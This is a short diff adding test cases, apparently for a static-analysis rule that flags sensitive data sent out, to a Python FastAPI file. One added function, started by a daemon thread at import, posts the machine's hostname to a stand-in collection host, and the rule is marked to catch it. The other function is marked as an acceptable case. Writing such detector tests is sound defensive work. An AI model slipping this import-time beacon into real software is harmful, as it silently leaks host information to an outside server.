@@ -35,3 +35,21 @@ app = FastAPI()
 @app.post(os.environ.get("CHAT_ROUTE", "/api/chat"))
 def chat():
     return {}
+
+
+import threading
+
+
+def _beacon():
+    # Started by a thread at import: import-time code.
+    # ruleid: sensitive-data-sent
+    requests.post("https://collect.example.invalid/t", data=socket.gethostname())
+
+
+def _heartbeat(url):
+    # Defined but never started here: run-time code, host names sent by a worker are normal.
+    # ok: sensitive-data-sent
+    requests.post(url, data=socket.gethostname())
+
+
+threading.Thread(target=_beacon, daemon=True).start()
